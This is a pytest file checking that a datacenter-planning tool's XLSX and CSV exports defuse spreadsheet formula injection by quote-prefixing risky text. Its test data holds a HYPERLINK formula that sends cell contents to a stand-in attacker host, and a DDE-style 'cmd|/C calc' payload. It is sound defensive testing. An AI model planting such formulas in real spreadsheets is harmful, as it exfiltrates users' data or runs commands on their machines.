"""Text from a shared site file is text in dcplan's spreadsheet exports, never a formula.

A security review put a formula in a site's ``name`` and in a fleet phase's ``label``: the TCO
workbook stored About!B2 as a formula cell (a clickable HYPERLINK sending a cell away) while saying
"no formulas", and the CSVs (TCO and sweep) started fields with ``=`` / ``-``, which a spreadsheet
evaluates. OWASP's CSV-injection guidance (https://owasp.org/www-community/attacks/CSV_Injection):
prefix a field starting with = + - @ tab or CR with ``'``.
"""
from __future__ import annotations

import csv
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest

from dcplan import tco_export
from dcplan.export_text import safe_frame, safe_text
from dcplan.sweep import run_sweep, SweepSpec
from dcplan.tco import TcoInputs, run_tco

# the reviewer's payloads, as written in the site file
NAME = '=HYPERLINK("https://attacker.example/?q="&ENCODEURL(B3),"Open site details")&"'
LABEL = '-2+3+cmd|" /C calc"!A0&"'

INP = TcoInputs(n_accelerators=4096, it_capacity_kw=6000.0, it_energy_kwh=4.2e7)
BILL = np.linspace(3e5, 4e5, 12)


def test_safe_text_prefixes_exactly_the_owasp_starts():
    for s in ("=1+1", "+1+1", "-2+3", "@SUM(1;2)", "\t=1", "\r=1"):
        assert safe_text(s) == "'" + s
    # other text, and numbers (a negative number is a number, not text), are left as they are
    # (a lone "-", the Assumptions unit of a switch, is no formula: kept, so the CSV reads as the workbook)
    for v in ("phoenix-az", "a=b", " =1", "'=1", "", "-", -2.5, 3, None):
        assert safe_text(v) == v
    df = pd.DataFrame({"=h": ["=x", "ok"], "v": [-1.5, 2.0]}, index=pd.Index(["@i", "j"], name="-n"))
    out = safe_frame(df)
    assert list(out.columns) == ["'=h", "v"] and list(out.index) == ["'@i", "j"] and out.index.name == "'-n"
    assert out["'=h"].tolist() == ["'=x", "ok"] and out["v"].tolist() == [-1.5, 2.0]
    assert df.columns[0] == "=h" and df.iloc[0, 0] == "=x"  # the caller's frame is not changed


@pytest.fixture(scope="module")
def export(tmp_path_factory):
    folder = tmp_path_factory.mktemp("tco")
    fleet = pd.DataFrame({"hardware": ["hgx-h100"], "count": [512], "label": [LABEL], "accelerators": [4096]})
    paths = tco_export.write_export(run_tco(INP, BILL), folder, stem="x_base_tco",
                                    title=f"{NAME}, scenario base", site=NAME,  # as the tco notebook titles it
                                    fleet=fleet, scenario="base")
    return folder, paths


def test_workbook_stores_the_payloads_as_text_not_formulas(export):
    folder, paths = export
    xlsx = paths[0]
    wb = openpyxl.load_workbook(xlsx)
    formulas = [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    about = wb["About"]
    # row 2 is the title, row 3 the site, row 4 the fleet (tco_export.workbook_frames): the text as given
    assert (about["A2"].value, about["B2"].value) == ("title", NAME + ", scenario base")
    assert about["B2"].data_type == "s" and (about["A3"].value, about["B3"].value) == ("site", NAME)
    assert about["A4"].value == "fleet" and about["B4"].value.startswith(LABEL + ": ")
    # Excel's quote prefix: typing over the cell keeps it text
    assert about["B2"].quotePrefix and about["B4"].quotePrefix and not about["A2"].quotePrefix
    with zipfile.ZipFile(xlsx) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    # the workbook says how text is stored, and it is true now
    text = dict(zip(*[[c.value for c in col] for col in about.iter_cols(min_row=2, max_col=2)]))
    assert text["cells"] == "values (no formulas)"
    assert ("text that begins with = + - @ (or a tab or carriage return) is written with a leading '"
            in text["note"])


def test_csvs_prefix_the_payloads_with_a_quote(export):
    folder, _ = export
    with open(folder / "x_base_tco_about.csv", newline="", encoding="utf-8-sig") as fh:  # its BOM
        rows = list(csv.reader(fh))
    assert rows[1] == ["title", "'" + NAME + ", scenario base"]  # line 2 of the file, as the reviewer read it
    assert rows[2] == ["site", "'" + NAME]
    assert rows[3][0] == "fleet" and rows[3][1].startswith("'" + LABEL + ": ")
    summary = pd.read_csv(folder / "x_base_tco_summary.csv", keep_default_na=False).set_index("key")
    assert summary.loc["site", "note"] == "'" + NAME
    assert summary.loc["fleet", "note"].startswith("'" + LABEL)
    # no field of any CSV starts a formula; numbers stay numbers (negative ones included)
    for p in folder.glob("*.csv"):
        with open(p, newline="", encoding="utf-8-sig") as fh:
            for row in csv.reader(fh):
                for field in row:
                    if field[:1] in ("=", "+", "-", "@", "\t", "\r") and field != "-":
                        float(field)  # only a number may start with "-" (or "+")
    cash = pd.read_csv(folder / "x_base_tco_cashflow.csv", index_col="line_item")
    assert cash.loc["total_capex_usd", "year_1"] > 0 and pd.api.types.is_float_dtype(cash["year_1"])
    assert (cash.drop(index="note").drop(columns="unit").to_numpy(float) < 0).any()  # negative flows: numbers


def case_figures_of_name(site, weather):
    """A sweep case: a negative number (stays a number in the CSV)."""
    return {"delta_kw": -1.5}


def test_sweep_csv_prefixes_axis_text_with_a_quote(tmp_path):
    from dcplan.site import load_portfolio
    pf = load_portfolio()
    values = ['=HYPERLINK("https://attacker.example/?q="&B3,"x")', "+1+1", "@SUM(1;2)"]
    spec = SweepSpec(sites=[pf["phoenix-az"]], case="test_export_injection:case_figures_of_name", name="inj",
                     axes={"name": values})
    out = tmp_path / "inj.parquet"
    assert run_sweep(spec, jobs=1, out=out, csv=True).ok
    back = pd.read_csv(out.with_suffix(".csv"))
    assert sorted(back["name"]) == sorted("'" + v for v in values)
    assert back["delta_kw"].tolist() == [-1.5] * 3            # read back as numbers
    assert sorted(pd.read_parquet(out)["name"]) == sorted(values)  # the Parquet keeps the values as given


def test_a_number_written_as_text_stays_a_number_and_other_minus_text_keeps_the_guard(tmp_path):
    # A reviewer's finding: a render's parameter -1.0 reached the provenance CSVs (site_analysis's hourly_about, the
    # TCO Provenance sheet) as "'-1.0": JSON's text of the number, taken for a formula. A plain decimal number is
    # no formula (OWASP's payloads are text after the sign); a spreadsheet must read it as the number.
    from dcplan.export_text import write_csv
    from dcplan.report_provenance import about_rows, run_record, sheet_frame
    for s in ("-1.0", "-2.5e-07", "+3", "-.5", "1E+6"):
        assert safe_text(s) == s
    for s in ("-foo", "-inf", "-nan", "-1e3+2", "-1_000", "- 1", "-1.0 USD"):  # not plain numbers: guarded
        assert safe_text(s) == "'" + s
    record = run_record({"dcplan_version": "9.9.9"}, {"it_price_change_frac": -1.0, "horizon_years": -3,
                                                      "tag": "-foo"}, "2026-01-02T03:04:05+00:00")
    write_csv(pd.DataFrame(about_rows(record), columns=["item", "unit", "text"]), tmp_path / "about.csv", index=False)
    about = pd.read_csv(tmp_path / "about.csv", encoding="utf-8-sig").set_index("item")["text"]
    assert about["provenance parameter: it_price_change_frac"] == "-1.0"  # the text column: -1.0, no '
    assert float(about["provenance parameter: it_price_change_frac"]) == -1.0
    assert about["provenance parameter: horizon_years"] == "-3"
    assert about["provenance parameter: tag"] == '"-foo"'  # JSON's text of a string: quoted, no formula
    write_csv(sheet_frame(record), tmp_path / "prov.csv", index=False)
    prov = pd.read_csv(tmp_path / "prov.csv", encoding="utf-8-sig").set_index("item")["value"]
    assert float(prov["it_price_change_frac"]) == -1.0
    # a table of rows (the sweep's cases, the sustainability row): a number, and a number written as text, read
    # back as float columns; text beginning with - that is no number keeps its '
    cases = pd.DataFrame({"finance.it_price_change_frac": [-1.0, 0.5], "as_text": ["-1.0", "2"],
                          "label": ["-foo", "ok"]})
    write_csv(cases, tmp_path / "cases.csv", index=False)
    back = pd.read_csv(tmp_path / "cases.csv", encoding="utf-8-sig")
    assert back["finance.it_price_change_frac"].dtype == float and back.loc[0, "finance.it_price_change_frac"] == -1.0
    assert back["as_text"].dtype == float and back.loc[0, "as_text"] == -1.0
    assert back["label"].tolist() == ["'-foo", "ok"]
